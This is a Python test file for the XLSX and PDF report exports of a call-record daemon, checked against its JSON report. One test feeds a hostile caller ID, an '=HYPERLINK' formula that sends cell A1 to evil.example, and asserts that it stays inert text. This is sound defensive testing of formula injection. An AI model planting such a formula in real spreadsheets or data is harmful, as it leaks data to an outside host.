"""Report exports as XLSX and PDF: opened with openpyxl and read with pypdf, checked against the JSON report.

The calls go through the real journal writer into SQLite (`tests.test_reports`); the CLI runs as a user runs it,
in a subprocess; memory is read from ``/proc``.
"""

from __future__ import annotations

import io
import json
import os
import pty
import stat
import subprocess
import sys
from datetime import datetime, timedelta
from decimal import ROUND_HALF_UP, Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pypdf
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from smdrd.reports import export as export_module
from smdrd.reports.export import Section, write_export
from smdrd.reports.export_pdf import FONT_DIR
from smdrd.reports.export_xlsx import write_xlsx
from smdrd.reports.queries import DETAIL_KINDS, KINDS, TITLES, Context, context_from, parse_query, run_report
from smdrd.reports.render import hms, to_dict
from smdrd.store.sqlite.reports import SqliteReports
from tests.test_reports import CALLS, DEPARTMENTS, Call, settings_for, write_calls
from tests.test_reports_cli import HOSTILE, config_text
from tests.test_reports_http import get, port_of, reports_daemon

MARCH = ("--from", "2026-03-01", "--to", "2026-03-31")
HTTP_MARCH = "from=2026-03-01&to=2026-03-31"
#: where the table starts: a title, four header lines (period, time zone, filters, currency), a blank line.
HEAD_ROW = 7


@pytest.fixture
async def db(tmp_path: Path) -> Path:
    path = tmp_path / "smdrd.db"
    await write_calls(path, CALLS)
    return path


def context(db: Path) -> Context:
    return context_from(settings_for(db, DEPARTMENTS))


def export(db: Path, kind: str, fmt: str, **params: str) -> tuple[bytes, dict[str, Any]]:
    """The export of ``kind`` over March as bytes, and the JSON report of the same query (every call)."""
    ctx = context(db)
    query = parse_query({"kind": [kind], "from": ["2026-03-01"], "to": ["2026-03-31"], "page_size": ["0"],
                         **{k: [v] for k, v in params.items()}}, ctx)
    reader = SqliteReports(str(db))
    try:
        out = io.BytesIO()
        write_export(reader, query, ctx, fmt, out, every=True)
        expected = to_dict(run_report(reader, query, ctx))
    finally:
        reader.close()
    return out.getvalue(), json.loads(json.dumps(expected))


def sheet_rows(ws: Worksheet) -> list[list[Any]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def table_of(ws: Worksheet) -> tuple[list[str], list[list[Any]], list[Any]]:
    """The heading, the rows and the totals row of a sheet."""
    rows = sheet_rows(ws)
    total = next(i for i, r in enumerate(rows) if r[0] == "Total")
    return rows[HEAD_ROW - 1], rows[HEAD_ROW:total], rows[total]


def as_json_value(value: Any, kind: str) -> Any:
    """A typed cell as the JSON report has it: seconds for a duration, a decimal string for money (an average is
    whole seconds in XLSX: see `xlsx_average`)."""
    if kind in ("seconds", "average") and isinstance(value, timedelta):
        return int(Decimal(str(value.total_seconds())))
    if kind == "money" and isinstance(value, int | float):
        return str(Decimal(str(value)).quantize(Decimal("0.01")))
    if kind == "minutes" and isinstance(value, int | float):
        return float(value)
    return value


@pytest.mark.parametrize("kind", [k for k in KINDS if k not in DETAIL_KINDS])
def test_xlsx_totals_row_equals_the_json_report_to_the_cent(db: Path, kind: str) -> None:
    """Every kind of one section (the details: tests/test_reports_details.py): the bold Total row holds the
    JSON totals, typed (a duration, money to the cent)."""
    data, expected = export(db, kind, "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    head, rows, totals = table_of(ws)
    columns = expected["columns"]
    assert head == [c["title"].removesuffix(" (s)") for c in columns]
    assert len(rows) == len(expected["rows"])
    for i, column in enumerate(columns[1:], start=1):
        totals_row = expected["totals"]
        want = xlsx_average(totals_row) if column["kind"] == "average" else totals_row.get(column["key"])
        assert as_json_value(totals[i], column["kind"]) == want, (kind, column)
    for row, want_row in zip(rows, expected["rows"], strict=True):
        for i, column in enumerate(columns):
            if column["key"] not in ("start", "day"):
                want = xlsx_average(want_row) if column["kind"] == "average" else want_row[column["key"]]
                assert as_json_value(row[i], column["kind"]) == want, (kind, column)


def xlsx_average(row: dict[str, Any]) -> int:
    """The average an XLSX cell holds: the row's seconds per call rounded half up to the second, once (not the
    JSON's one-decimal figure rounded again)."""
    if not row["calls"]:
        return 0
    return int((Decimal(row["duration"]) / row["calls"]).quantize(Decimal(1), ROUND_HALF_UP))


def test_xlsx_header_block_names_the_title_period_filters_and_time_zone(db: Path) -> None:
    data, _ = export(db, "extensions", "xlsx", department="Sales")
    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0])
    assert rows[0][0] == "Calls per extension"
    header = {r[0]: r[1] for r in rows[1:5]}
    assert header == {"Period": "2026-03-01 to 2026-03-31 (both included)", "Time zone": "Europe/Warsaw",
                      "Filters": "Department: Sales; Direction: outbound", "Currency": "EUR"}


def test_xlsx_cells_are_typed_numbers_durations_money_and_text(db: Path) -> None:
    """Counts are numbers, durations [h]:mm:ss, money has its currency format, extensions and numbers are text
    (a leading 0 survives), a call's time is a date and time."""
    data, _ = export(db, "calls", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    first = next(ws.iter_rows(min_row=HEAD_ROW + 1, max_row=HEAD_ROW + 1))
    start, ext, _dep, number, _dir, _cls, trunk, duration, cost, leg = first
    assert start.value == datetime(2026, 3, 2, 10, 15) and start.number_format == "yyyy-mm-dd hh:mm:ss"
    assert (ext.value, ext.data_type, ext.number_format) == ("201", "s", "@")
    assert (number.value, number.data_type) == ("0221234567", "s")
    assert trunk.value == "T1" and trunk.data_type == "s"
    assert duration.value == timedelta(seconds=120) and duration.number_format == "[h]:mm:ss"
    assert cost.value == 0.5 and cost.number_format == '#,##0.00 "EUR"' and cost.data_type == "n"
    assert leg.value == 0 and leg.data_type == "n"
    data, _ = export(db, "days", "xlsx")
    day = next(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0].iter_rows(min_row=HEAD_ROW + 1))[0]
    assert day.value == datetime(2026, 3, 1) and day.number_format == "yyyy-mm-dd"


def test_xlsx_calls_lists_legs_and_calls_under_the_totals(db: Path) -> None:
    """The calls listing's totals have no column for calls and legs: they follow the Total row."""
    data, expected = export(db, "calls", "xlsx")
    rows = sheet_rows(openpyxl.load_workbook(io.BytesIO(data)).worksheets[0])
    total = next(i for i, r in enumerate(rows) if r[0] == "Total")
    after = {r[0]: r[1] for r in rows[total + 1:]}
    assert after["Calls"] == expected["totals"]["calls"] == 8
    assert after["Legs"] == expected["totals"]["legs"] == 9


async def test_xlsx_text_from_the_pbx_is_never_a_formula(tmp_path: Path) -> None:
    """A caller ID =HYPERLINK(...) is a text cell showing exactly what the PBX sent, never a formula."""
    db = tmp_path / "hostile.db"
    await write_calls(db, HOSTILE)
    data, _ = export(db, "calls", "xlsx")
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {"=1+2", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+442071234567"} <= texts


def test_xlsx_has_a_sheet_per_section_and_goes_on_past_a_full_sheet(db: Path, tmp_path: Path) -> None:
    """Sections become sheets (with valid names); a section longer than a sheet continues on the next sheet,
    and its totals close the last one."""
    ctx = context(db)
    reader = SqliteReports(str(db))
    try:
        report = run_report(reader, parse_query({"kind": ["extensions"], "from": ["2026-03"], "to": ["2026-03"]},
                                                ctx), ctx)
    finally:
        reader.close()
    rows = report.rows
    sections = [Section("Sales: [north]", rows[:2], {"calls": 3}), Section("Everything else", rows[2:], None)]
    path = tmp_path / "s.xlsx"
    write_xlsx(str(path), report, sections, max_rows=HEAD_ROW + 3)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Sales   north", "Everything else", "Everything else (2)", "Everything else (3)"]
    first = sheet_rows(wb["Sales   north"])
    assert [r[0] for r in first[HEAD_ROW:]] == ["201", "205", "Total"] and first[-1][2] == 3
    continued = [r[0] for name in wb.sheetnames[1:] for r in sheet_rows(wb[name])[HEAD_ROW:]]
    assert continued == [r["extension"] for r in rows[2:]]
    assert sheet_rows(wb["Everything else (2)"])[0][0] == "Calls per extension"


def _report(config: Path, *args: str, stdout: Any = subprocess.PIPE) -> subprocess.CompletedProcess[bytes]:
    return subprocess.run([sys.executable, "-m", "smdrd", "report", *args, "--config", str(config)],
                          stdout=stdout, stderr=subprocess.PIPE, timeout=120, check=False)


@pytest.fixture
def config(db: Path, tmp_path: Path) -> Path:
    path = tmp_path / "smdrd.toml"
    path.write_text(config_text(db))
    return path


def test_cli_writes_xlsx_to_a_private_file(config: Path, tmp_path: Path) -> None:
    """``smdrd report departments --format xlsx --output FILE``: a 0600 workbook whose totals are the JSON's."""
    out = tmp_path / "departments.xlsx"
    result = _report(config, "departments", *MARCH, "--format", "xlsx", "--output", str(out))
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    _head, _rows, totals = table_of(openpyxl.load_workbook(out).worksheets[0])
    assert totals[2] == 8 and totals[3] == timedelta(seconds=1600) and str(totals[5]) == "8.35"


def test_cli_writes_xlsx_to_a_pipe(config: Path) -> None:
    result = _report(config, "calls", *MARCH, "--format", "xlsx")
    assert result.returncode == 0, result.stderr
    ws = openpyxl.load_workbook(io.BytesIO(result.stdout)).worksheets[0]
    assert ws["A1"].value == "Call details"


@pytest.mark.parametrize("fmt", ["xlsx", "pdf"])
def test_cli_refuses_to_write_a_binary_file_to_a_terminal(config: Path, fmt: str) -> None:
    """Without --output, a terminal gets a one-line error and exit 2, not a screenful of bytes."""
    master, slave = pty.openpty()
    try:
        result = _report(config, "days", *MARCH, "--format", fmt, stdout=slave)
    finally:
        os.close(slave)
        os.close(master)
    assert result.returncode == 2
    assert b"binary file: give --output FILE" in result.stderr


def _calls_over_a_year(n: int) -> list[Call]:
    start = datetime(2025, 1, 1, 8, 0)
    step = timedelta(days=364) / n
    return [Call((start + step * i).isoformat(timespec="seconds"), str(200 + i % 150), "outbound", "national",
                 30 + i % 600, f"{(i % 97) / 100:.2f}", number=f"0{221234567 + i}") for i in range(n)]


#: run in a child process: one warm-up export of a day, then the year, each to a file; the peak memory (VmHWM,
#: reset through clear_refs after the warm-up) over the resident memory before the year's export, in kB.
_MEASURE = """
import re, sys
from smdrd import cli

def status(key):
    return int(re.search(key + r":\\s+(\\d+) kB", open("/proc/self/status").read()).group(1))

def report(day_to, out):
    args = ["report", sys.argv[4], "--from", "2025-01-01", "--to", day_to, "--config", sys.argv[1],
            "--format", sys.argv[2], "--output", out]
    assert cli.main(args) == 0

report("2025-01-01", sys.argv[3] + ".warm")
try:
    open("/proc/self/clear_refs", "w").write("5")
    before = status("VmRSS")
except OSError:
    before = status("VmHWM")
report("2025-12-31", sys.argv[3])
print(before, status("VmHWM"))
"""


YEAR_CALLS = 20_000


@pytest.fixture
async def year_config(tmp_path: Path) -> Path:
    db = tmp_path / "year.db"
    await write_calls(db, _calls_over_a_year(YEAR_CALLS))
    config = tmp_path / "year.toml"
    config.write_text(config_text(db))
    return config


@pytest.mark.slow
@pytest.mark.timeout(300)  # a busy CI box: 20,000 calls are written, then a year exported twice
@pytest.mark.parametrize(("kind", "fmt"), [("calls", "xlsx"), ("extension-details", "xlsx")])
def test_a_year_of_calls_exports_in_bounded_memory(year_config: Path, tmp_path: Path, kind: str, fmt: str) -> None:
    """20,000 calls over a year export a row at a time: the process's peak memory grows by less than 8 MB
    (holding the rows, dicts of about 1 kB each, would take 20 MB), and the file holds every call and the
    totals (the details: in a sheet per extension after the summary)."""
    n = YEAR_CALLS
    out = tmp_path / f"year.{fmt}"
    result = subprocess.run([sys.executable, "-c", _MEASURE, str(year_config), fmt, str(out), kind],
                            capture_output=True, text=True, timeout=600, check=False)
    assert result.returncode == 0, result.stderr
    before, peak = map(int, result.stdout.split())
    growth_kb = peak - before
    assert growth_kb < 8 * 1024, f"peak memory grew by {growth_kb} kB for {n} calls"
    wb = openpyxl.load_workbook(out, read_only=True)
    rows = [r for ws in wb.worksheets for r in ws.iter_rows(min_row=HEAD_ROW + 1, values_only=True)]
    assert sum(1 for r in rows if isinstance(r[0], datetime)) == n
    talk = timedelta(seconds=sum(30 + i % 600 for i in range(n)))
    if kind == "calls":
        assert next(r for r in rows if r[0] == "Total")[7] == talk
    else:
        assert len(wb.sheetnames) == 1 + 150 and next(r for r in rows if r[0] == "Total")[3] == talk



def pdf_pages(data: bytes) -> list[str]:
    return [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(data)).pages]


@pytest.mark.parametrize("kind", KINDS)
def test_pdf_shows_title_period_totals_and_page_numbers(db: Path, kind: str) -> None:
    """Every kind: a page with its title, the period and time zone, the totals of the JSON report (h:mm:ss,
    money with its currency) and "Page 1 of N"."""
    data, expected = export(db, kind, "pdf")
    pages = pdf_pages(data)
    first, last = pages[0], pages[-1]
    assert first.startswith(TITLES[kind])
    assert "Period 2026-03-01 to 2026-03-31 (both included)" in first and "Time zone Europe/Warsaw" in first
    assert "Filters Direction: outbound" in first
    totals = next(line for line in last.splitlines() if line.startswith("Total"))
    assert f"{expected['totals']['cost']} EUR" in totals
    assert hms(expected["totals"]["duration"]) in totals
    assert [f"Page {i} of {len(pages)}" in page for i, page in enumerate(pages, start=1)] == [True] * len(pages)


@pytest.mark.parametrize(("paper", "size"), [("a4", (595.28, 841.89)), ("letter", (612, 792))])
def test_pdf_fits_a4_and_letter(db: Path, paper: str, size: tuple[float, float]) -> None:
    """Portrait for a narrow table, landscape for the ten columns of the calls listing, on either paper."""
    ctx = context(db)
    for kind, landscape in (("extensions", False), ("calls", True)):
        query = parse_query({"kind": [kind], "from": ["2026-03"], "to": ["2026-03"]}, ctx)
        reader = SqliteReports(str(db))
        out = io.BytesIO()
        try:
            write_export(reader, query, ctx, "pdf", out, every=True, paper=paper)
        finally:
            reader.close()
        box = pypdf.PdfReader(io.BytesIO(out.getvalue())).pages[0].mediabox
        want = tuple(reversed(size)) if landscape else size
        assert (round(float(box.width), 2), round(float(box.height), 2)) == want


def test_pdf_repeats_the_heading_on_every_page_and_ends_with_the_totals(db: Path) -> None:
    """A year of days runs over several pages: each has the table heading, the last ends with the totals."""
    ctx = context(db)
    query = parse_query({"kind": ["days"], "from": ["2026-01-01"], "to": ["2026-12-31"]}, ctx)
    reader = SqliteReports(str(db))
    out = io.BytesIO()
    try:
        write_export(reader, query, ctx, "pdf", out, every=True)
    finally:
        reader.close()
    pages = pdf_pages(out.getvalue())
    assert len(pages) > 3
    assert all("Day Calls Duration Average Cost" in page for page in pages)
    assert "Total 10 0:29:10 0:02:55 8.90 EUR" in pages[-1]  # March, 1 April and 28 February
    assert "Page 1 of" in pages[0] and f"Page {len(pages)} of {len(pages)}" in pages[-1]


def test_pdf_lists_at_most_pdf_max_rows_calls_and_says_so(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_module, "PDF_MAX_ROWS", 3)
    data, expected = export(db, "calls", "pdf")
    text = "\n".join(pdf_pages(data))
    assert "the first 3 of 9 call legs are listed" in text
    assert sum(1 for line in text.splitlines() if line.startswith("2026-03-")) == 3
    assert f"{expected['totals']['cost']} EUR" in text and "Calls: 8" in text and "Legs: 9" in text


async def test_pdf_prints_pbx_text_as_text(tmp_path: Path) -> None:
    db = tmp_path / "hostile.db"
    await write_calls(db, HOSTILE)
    data, _ = export(db, "calls", "pdf")
    text = "\n".join(pdf_pages(data))
    assert "=1+2" in text and "+442071234567" in text


def test_cli_writes_pdf_on_letter_paper(config: Path, tmp_path: Path) -> None:
    out = tmp_path / "trunks.pdf"
    result = _report(config, "trunks", *MARCH, "--format", "pdf", "--paper", "letter", "--output", str(out))
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    reader = pypdf.PdfReader(out)
    assert float(reader.pages[0].mediabox.width) == 612
    text = reader.pages[0].extract_text()
    assert text.startswith("Calls per trunk") and "8.35 EUR" in text and "Page 1 of 1" in text


async def test_http_serves_xlsx_with_its_type_name_and_the_json_totals(tmp_path: Path) -> None:
    """format=xlsx on a real daemon: the spreadsheet type, an attachment named for the kind and period, and the
    totals of the JSON report over the same HTTP."""
    async with reports_daemon(tmp_path) as daemon:
        port = port_of(daemon)
        status, _, body = await get(port, f"/api/reports/departments?{HTTP_MARCH}")
        totals = json.loads(body)["totals"]
        status, headers, body = await get(port, f"/api/reports/departments?{HTTP_MARCH}&format=xlsx")
    assert status == 200
    assert headers["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert headers["Content-Disposition"] == 'attachment; filename="smdrd-departments-2026-03-01-2026-03-31.xlsx"'
    _head, _rows, row = table_of(openpyxl.load_workbook(io.BytesIO(body)).worksheets[0])
    assert row[2] == totals["calls"] and row[3] == timedelta(seconds=totals["duration"])
    assert str(Decimal(str(row[5])).quantize(Decimal("0.01"))) == totals["cost"]


async def test_http_serves_every_call_as_pdf_on_letter_paper(tmp_path: Path) -> None:
    """format=pdf&paper=letter: every call of the range (not the first page of 100), its totals, page numbers."""
    async with reports_daemon(tmp_path) as daemon:
        status, headers, body = await get(port_of(daemon),
                                          f"/api/reports/calls?{HTTP_MARCH}&page_size=2&format=pdf&paper=letter")
    assert status == 200 and headers["Content-Type"] == "application/pdf"
    assert headers["Content-Disposition"] == 'attachment; filename="smdrd-calls-2026-03-01-2026-03-31.pdf"'
    reader = pypdf.PdfReader(io.BytesIO(body))
    assert float(reader.pages[0].mediabox.height) == 612  # landscape Letter
    text = "\n".join(page.extract_text() for page in reader.pages)
    assert text.startswith("Call details") and "Page 1 of" in text
    assert sum(1 for line in text.splitlines() if line.startswith("2026-03-")) == 9
    assert "8.35 EUR" in text and "Calls: 8" in text


async def test_http_refuses_an_unknown_format_or_paper(tmp_path: Path) -> None:
    async with reports_daemon(tmp_path) as daemon:
        port = port_of(daemon)
        status, _, body = await get(port, f"/api/reports/days?{HTTP_MARCH}&format=xls")
        assert status == 400 and b"format: expected json, csv, html, table, xlsx or pdf" in body
        status, _, body = await get(port, f"/api/reports/days?{HTTP_MARCH}&format=pdf&paper=a3")
        assert status == 400 and b"paper: expected a4 or letter" in body


async def test_pdf_prints_any_script_with_dejavu_and_latin1_without(tmp_path: Path) -> None:
    """A trunk named "Łódź Ω" prints as sent with DejaVu Sans (Debian's fonts-dejavu-core, installed by
    scripts/system-deps.sh); with only the core font, its Latin-1 letters print and the others become "?"."""
    db = tmp_path / "unicode.db"
    await write_calls(db, [Call("2026-03-02T10:15:00", "201", "outbound", "national", 120, "0.50",
                                trunk="Łódź Ω")])
    data, _ = export(db, "trunks", "pdf")
    text = "\n".join(pdf_pages(data))
    if (FONT_DIR / "DejaVuSans.ttf").is_file():
        assert "Łódź Ω" in text
    else:
        assert "?ód? ?" in text


async def test_http_export_gives_its_report_slot_back(tmp_path: Path) -> None:
    """With room for one report at a time, export after export is served: each leaves its slot when sent."""
    async with reports_daemon(tmp_path, max_reports=1) as daemon:
        for fmt in ("xlsx", "pdf", "xlsx", "pdf"):
            status, _, body = await get(port_of(daemon), f"/api/reports/calls?{HTTP_MARCH}&format={fmt}")
            assert status == 200, body[:200]
